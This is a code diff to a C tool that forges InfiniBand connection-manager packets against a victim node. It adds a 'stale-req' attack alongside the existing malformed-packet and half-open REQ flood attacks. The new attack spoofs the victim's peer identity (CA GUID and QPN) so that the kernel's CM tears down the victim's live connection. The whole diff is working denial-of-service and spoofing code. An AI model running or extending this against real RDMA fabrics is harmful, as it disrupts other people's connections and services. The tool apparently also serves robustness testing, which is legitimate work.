@@ -12,7 +12,13 @@
  *                                    method, reserved bits, out-of-range
  *                                    fields and over-long length fields;
  *   req-flood                        REQs with fresh comm IDs and QPNs that
- *                                    never send an RTU (half-open flood).
+ *                                    never send an RTU (half-open flood);
+ *   stale-req                        REQs that claim to be the victim's peer
+ *                                    reconnecting its QP (the peer's CA GUID
+ *                                    and QPN, a fresh comm ID) for a service
+ *                                    nobody listens on: a CM that believes
+ *                                    it (the kernel's) disconnects the
+ *                                    victim's connection.
  *
  * It then listens --wait-ms for what the victim answers and prints one
  * summary line: "sent N <attack> to LID x: replies REJ=a MRA=b ...". The
@@ -47,6 +53,8 @@ struct opts {
 	struct cmp_addr dst;
 	const char *attack;
 	uint32_t victim_id, peer_id, victim_qpn;
+	uint32_t peer_qpn;   /* stale-req: the victim's peer's QPN and CA GUID */
+	uint64_t peer_guid;
 	uint64_t sid;
 	unsigned count;
 	unsigned interval_us;
@@ -84,7 +92,10 @@ static void usage(FILE *f)
 		"      base/class versions, unknown attribute, wrong method, reserved bits,\n"
 		"      out-of-range enumerations and over-long length fields\n"
 		"  req-flood --sid SID [--cma-dst IPV4]  --count REQs that never complete\n"
-		"      (--cma-dst: with the rdma_cm IP header, as an rdma_cm listener wants)\n");
+		"      (--cma-dst: with the rdma_cm IP header, as an rdma_cm listener wants)\n"
+		"  stale-req --peer-guid GUID --peer-qpn QPN [--sid SID]  --count REQs naming\n"
+		"      the victim's peer (its CA GUID and QPN) under fresh comm IDs, for SID\n"
+		"      (default 0: nobody listens): the peer reconnecting, as far as they say\n");
 }
 
 static int parse_u64(const char *s, uint64_t *v)
@@ -167,7 +178,8 @@ static int build_spoof(const struct opts *o, unsigned k, uint8_t mad[CMP_MAD_SIZ
 }
 
 /* One REQ of a flood: a new comm ID, QPN and PSN each time (QPNs distinct,
- * so the victim sees no stale connection, only new ones). */
+ * so the victim sees no stale connection, only new ones). For stale-req, the
+ * peer's QPN and CA GUID every time, so the victim sees only stale ones. */
 static int build_req(const struct opts *o, unsigned k, uint16_t my_lid, uint8_t mad[CMP_MAD_SIZE])
 {
 	static uint32_t qpn_base;
@@ -181,6 +193,12 @@ static int build_req(const struct opts *o, unsigned k, uint16_t my_lid, uint8_t 
 	if (!k)
 		qpn_base = rnd();
 	r->local_qpn = (qpn_base + k) & 0xFFFFFF;
+	if (!strcmp(o->attack, "stale-req")) {
+		/* The victim's peer's QP, connected to the victim: a new comm ID
+		 * for it says the peer reconnected it (IBTA: stale connection). */
+		r->local_ca_guid = o->peer_guid;
+		r->local_qpn = o->peer_qpn;
+	}
 	r->starting_psn = rnd() & 0xFFFFFF;
 	r->responder_resources = r->initiator_depth = 1;
 	r->remote_cm_response_timeout = r->local_cm_response_timeout = 20;
@@ -347,6 +365,11 @@ int main(int argc, char **argv)
 		} else if (!strcmp(a, "--victim-qpn")) {
 			bad = parse_u64(val, &v) || v > 0xFFFFFF;
 			o.victim_qpn = (uint32_t)v;
+		} else if (!strcmp(a, "--peer-qpn")) {
+			bad = parse_u64(val, &v) || v > 0xFFFFFF;
+			o.peer_qpn = (uint32_t)v;
+		} else if (!strcmp(a, "--peer-guid")) {
+			bad = parse_u64(val, &o.peer_guid);
 		} else if (!strcmp(a, "--sid")) {
 			bad = parse_u64(val, &v);
 			o.sid = v;
@@ -401,7 +424,7 @@ int main(int argc, char **argv)
 		uint8_t mad[CMP_MAD_SIZE];
 		int rc;
 
-		if (!strcmp(o.attack, "req-flood"))
+		if (!strcmp(o.attack, "req-flood") || !strcmp(o.attack, "stale-req"))
 			rc = build_req(&o, k, my_lid, mad);
 		else if (!strcmp(o.attack, "malformed"))
 			rc = build_malformed(&o, k, mad);
